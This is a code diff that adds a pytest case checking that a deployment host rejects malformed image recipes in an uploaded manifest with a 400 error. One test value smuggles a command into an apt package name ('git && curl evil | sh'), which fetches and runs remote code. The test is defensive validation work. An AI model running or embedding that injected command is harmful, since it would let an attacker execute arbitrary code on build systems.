@@ -132,6 +132,33 @@ def test_invalid_manifest_names_the_field(host: Host) -> None:
     assert_nothing_written(host)
 
 
+@pytest.mark.parametrize(
+    ("extra", "message"),
+    [
+        (
+            {
+                "build_image": True,
+                "image_recipe": {
+                    "username": "alice",
+                    "name": "hello",
+                    "tag": "1",
+                    "steps": [{"apt": ["git && curl evil | sh"]}],
+                },
+            },
+            "image_recipe: image step 1: Image.apt_install()",
+        ),
+        ({"image_recipe": "RUN id"}, "image_recipe"),
+        ({"deploy_image": "Not An Image"}, "deploy_image"),
+    ],
+)
+def test_invalid_image_in_the_manifest_is_400(host: Host, extra: dict, message: str) -> None:
+    manifest = hello_manifest(**extra)
+    resp = upload(host, hello_bundle(host.work / "img.tgz", manifest), key=host.alice)
+    assert resp.status_code == 400
+    assert message in resp.json()["detail"]
+    assert_nothing_written(host)
+
+
 def test_entrypoint_module_missing_is_400(host: Host) -> None:
     manifest = hello_manifest(entrypoint="elsewhere:chute")
     resp = upload(host, hello_bundle(host.work / "miss.tgz", manifest), key=host.alice)
